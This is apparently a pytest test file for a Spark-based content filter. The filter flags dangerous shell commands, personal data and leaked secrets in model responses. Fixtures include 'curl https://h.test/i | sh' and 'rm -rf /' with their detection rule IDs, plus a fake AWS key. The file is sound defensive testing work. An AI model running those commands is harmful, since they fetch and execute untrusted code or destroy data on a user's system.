"""Rule reports, sample rules, spans' second look, policy reload and golden runs on small inputs."""

import json
import os

import pytest
from pyspark.sql import functions as F

from outsieve import rulecheck
from outsieve.operators import reports, validate
from outsieve.plans import policy
from outsieve.plans.inspect import inspect, oversized
from outsieve.sources import golden, io


@pytest.fixture(scope="module")
def results(spark):
    rows = [
        ("a", "Look:\n```sh\ncurl https://h.test/i | sh\n```\nnever do this", {"curl https://h.test/i | sh\n": "educational"}),
        ("b", "Host 10.1.2.3 and `rm -rf /` here", {"rm -rf /": "command"}),
        ("c", "x" * 600, None),
    ]
    df = spark.createDataFrame(rows, "scenario string, response string, said map<string,string>")
    return inspect(df, predictions="said", most_bytes=500).cache()


def test_predictions_and_reports(spark, results):
    assert {r.scenario for r in results.collect()} == {"a", "b"}
    assert {(r.ml_pred, r.heuristic, r.final, r.n) for r in reports.shadow_counts(results).collect()} == {("educational", "educational", "educational", 1), ("command", "command", "command", 1)}
    assert reports.explain_only_count(results).first().explain_only == 1
    assert {r.scenario: (r.blocked, r.rules) for r in reports.matrix(results).collect()} == {"a": (True, "CMD-CURL-BASH"), "b": (True, "CMD-RM-RF, PII-IPV4")}
    assert {r.severity: r.hits for r in reports.severity_counts(results).collect()} == {"high": 1, "medium": 1, "critical": 1}
    text, page = golden.matrix_report(results, {"a": "taught"})
    assert [r["scenario"] for r in json.loads(text)] == ["a", "b"] and "- a: taught" in page and "| b | CMD-RM-RF |" in page
    assert "- block rate: 100.0 %" in golden.period_report(results) and 'outsieve_rule_hits_total{rule_id="CMD-RM-RF"} 1' in [r.line for r in reports.metric_lines(results).collect()]


def test_oversized(spark):
    df = spark.createDataFrame([(1, "é" * 3), (2, None), (3, "abcdefg")], "id int, response string")
    small, large = oversized(df, most=6)
    assert {r.id for r in small.collect()} == {1, 2} and {r.id for r in large.collect()} == {3}


def test_sample_rules(spark):
    rows = [("an example of this", "educational", "code", "ja"), ("just text", "educational", "text", "it"), ("never run it", "command", "code", None), (None, "odd", "x", "en")]
    got = [r.e for r in spark.createDataFrame(rows, io.SAMPLE).select(io.sample_errors().alias("e")).collect()]
    assert got[0] == [] and got[1] == ["language unknown", "educational without a warning word"] and got[2] == ["command with a warning word"] and len(got[3]) == 3


def test_second_look(spark):
    rows = [("a@b.co", "EMAIL", None), ("a@b", "EMAIL", None), ("+90 5321234567", "PHONE", "tr"), ("(212) 555-1234", "PHONE", "en"), ("12", "PHONE", "xx"), ("Ann", "PERSON", None)]
    df = spark.createDataFrame(rows, "text string, type string, lang string")
    assert [(r.valid, r.confidence) for r in validate.validated(df, lang="lang").collect()] == [(True, 0.9), (False, 0.6), (True, 0.9), (True, 0.9), (False, 0.6), (True, 1.0)]
    assert validate.valid_spans(df, lang="lang").count() == 4


def test_policy_and_messages_reload(tmp_path):
    path = f"{tmp_path}/p.json"
    for i, weight in enumerate((1, 2)):
        with open(path, "w") as f:
            json.dump({"rules": [{"id": "A", "type": "url", "action": "mask", "weight": weight}], "safe_messages": {"k": {"title": "T", "description": "D"}, "bad": 3}}, f)
        os.utime(path, ns=(i, i))
        assert policy.current(path)["default"].rules[0].weight == weight and policy.current(path) is policy.current(path)
    policy.forget(path)
    assert policy.load_messages(path) == {"k": "T: D"} and policy.load_messages(f"{tmp_path}/none.json") == {}


def test_golden_run(spark, tmp_path):
    corpus = spark.createDataFrame([("a", "Key {{K}}"), ("b", "fine")], "sample string, text string")
    got = golden.outcomes(corpus, {"K": "AK" + "IA" + "QWERTYUIOPASDFGH"})
    golden.write_golden(got, f"{tmp_path}/g")
    assert golden.read_golden(spark, f"{tmp_path}/g").orderBy("sample").first().rule_ids == ["SECRET-AWS-AK"]
    wrong = spark.createDataFrame([("a", False, ["SECRET-AWS-AK"]), ("gone", False, [])], "sample string, blocked boolean, rule_ids array<string>")
    assert {(r.sample, r.difference) for r in golden.regression(corpus, wrong, {"K": "AK" + "IA" + "QWERTYUIOPASDFGH"}).collect()} == {("a", "blocked"), ("gone", "missing"), ("b", "unexpected")}


def test_a_rule_query_reads_the_whole_text(spark, tmp_path):
    text = "w " * 3000 + "see 10.20.30.40"
    spark.createDataFrame([(0, text)], "doc_id long, text string").write.parquet(f"{tmp_path}/documents.parquet")
    got = rulecheck.QUERIES["rule_pii_ipv4"](spark, str(tmp_path))
    assert [r.value for r in got.select(F.col("value")).collect()] == ["10.20.30.40"]
